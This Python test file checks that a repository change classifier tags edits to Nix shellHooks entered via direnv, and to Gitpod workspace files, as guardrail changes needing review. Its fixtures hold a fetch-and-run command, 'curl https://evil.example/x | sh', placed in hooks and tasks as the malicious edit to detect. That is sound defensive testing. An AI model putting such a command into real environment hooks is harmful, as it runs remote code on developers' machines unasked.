"""Issue 12: development environments entered without a fresh confirmation (cfgarg2, nixshells.py, guardrail.autorun).

- A `flake.nix`/`shell.nix`/`default.nix` whose devShell has a `shellHook`, beside an `.envrc` that says `use flake`
  or `use nix`: nix-direnv re-evaluates it and runs the hook on the next `cd` without asking (direnv asks again only
  when `.envrc` itself changes). On f1405b6 an edit of the hook alone carried no `guardrail` tag: `--enable
  guardrails` allowed it (exit 0). Now tagged; the bucket stays `deps`. Without such an `.envrc` (entered by hand with
  `nix develop`) it stays untagged.
- Gitpod's `.gitpod.yml` (its `init`/`before`/`command` tasks run when any workspace starts, and in prebuilds) and
  `.gitpod.Dockerfile`: tagged `guardrail` by path, as Dev Container files are; not `ci` (prebuilds are switched on
  in Gitpod's project settings, which the tree does not show).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed_pairs, gated_rules
from gitrepo import two_commits
from incli import tree_classify
from tables import each_case

FLAKE = ('{{\n  outputs = {{ self, nixpkgs }}: {{\n    devShells.x86_64-linux.default = nixpkgs.legacyPackages'
         '.x86_64-linux.mkShell {{\n      packages = [ ];\n      shellHook = \'\'\n        {hook}\n      \'\';\n'
         '    }};\n  }};\n}}\n')
SHELL = "{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n  shellHook = ''\n    {hook}\n  '';\n}}\n"
GOOD, EVIL = 'echo "welcome"', "curl -s https://evil.example/x | sh"

# name: {path: (BASE, HEAD)}; the file judged is the first
ENTERED: dict[str, dict[str, tuple[str | None, str | None]]] = {
    "flake, use flake": {"flake.nix": (FLAKE.format(hook=GOOD), FLAKE.format(hook=EVIL)),
                         ".envrc": ("use flake\n", "use flake\n")},
    "shell.nix in a folder, use nix": {"tools/dev/shell.nix": (SHELL.format(hook=GOOD), SHELL.format(hook=EVIL)),
                                       "tools/dev/.envrc": ("dotenv_if_exists\nuse nix\n",) * 2},
    # docs review 52: the forms real .envrc files use (jenkinsci/kubernetes-operator, zhaofengli/attic)
    "has nix && use flake": {"flake.nix": (FLAKE.format(hook=GOOD), FLAKE.format(hook=EVIL)),
                             ".envrc": ("has nix && use flake\n",) * 2},
    "use_flake": {"flake.nix": (FLAKE.format(hook=GOOD), FLAKE.format(hook=EVIL)), ".envrc": ("use_flake\n",) * 2},
    "if has nix; then use flake; fi": {"flake.nix": (FLAKE.format(hook=GOOD), FLAKE.format(hook=EVIL)),
                                       ".envrc": ("if has nix; then use flake; fi\n",) * 2},
    "hook added": {"default.nix": (SHELL.replace("shellHook", "buildInputs").format(hook="[ ]"),
                                   SHELL.format(hook=EVIL)), ".envrc": ("use nix\n", "use nix\n")},
}


@each_case("name", sorted(ENTERED))
def test_a_shell_hook_direnv_runs_on_cd_is_a_guardrail(tmp_path: Path, name: str) -> None:
    files = ENTERED[name]
    path = next(iter(files))
    base = {p: b for p, (b, _h) in files.items() if b is not None}
    head = {p: h for p, (b, h) in files.items() if h is not None and h != b}
    repo, first, last = two_commits(tmp_path / "r", {"README.md": "x\n", **base}, head)
    found = tree_classify(repo.root, first, last)[path]
    # the bucket stays the path rules' (`default.nix` is any Nix expression: src)
    assert found["bucket"] == ("src" if path == "default.nix" else "deps") and "guardrail" in found["tags"], found
    code, named = gated_rules(committed_pairs(tmp_path / "g", files), True, "guardrails")
    assert code == 3 and path in named.get("guardrails.edit", []), named


def test_a_shell_no_envrc_enters_is_not_tagged(tmp_path: Path) -> None:
    """`nix develop` by hand, or an `.envrc` that loads only a dotenv file: as before."""
    base = {"README.md": "x\n", "flake.nix": FLAKE.format(hook=GOOD), "sub/shell.nix": SHELL.format(hook=GOOD),
            "sub/.envrc": "dotenv\n"}
    repo, first, last = two_commits(tmp_path / "r", base, {"flake.nix": FLAKE.format(hook=EVIL),
                                                           "sub/shell.nix": SHELL.format(hook=EVIL)})
    found = tree_classify(repo.root, first, last)
    assert [("guardrail" in found[p]["tags"], found[p]["bucket"]) for p in ("flake.nix", "sub/shell.nix")] == [
        (False, "deps"), (False, "deps")], found


def test_from_a_patch_a_shown_hook_is_tagged(tmp_path: Path) -> None:
    """The `.envrc` is out of a patch's sight: a shown `shellHook` is tagged."""
    case = committed_pairs(tmp_path, {"flake.nix": (FLAKE.format(hook=GOOD), FLAKE.format(hook=EVIL)),
                                      ".envrc": ("use flake\n", "use flake\n")})
    code, named = gated_rules(case, False, "guardrails")
    assert code == 3 and "flake.nix" in named.get("guardrails.edit", []), named


@pytest.mark.parametrize("path", [".gitpod.yml", ".gitpod.Dockerfile"])
def test_gitpod_workspace_tasks_are_a_guardrail(tmp_path: Path, path: str) -> None:
    before = "tasks:\n  - init: npm ci\n" if path.endswith("yml") else "FROM gitpod/workspace-full\n"
    after = "tasks:\n  - init: curl https://evil.example/x | sh\n" if path.endswith("yml") else \
        "FROM gitpod/workspace-full\nRUN curl https://evil.example/x | sh\n"
    code, named = gated_rules(committed_pairs(tmp_path, {path: (before, after)}), True, "guardrails")
    assert code == 3 and path in named.get("guardrails.edit", []), named
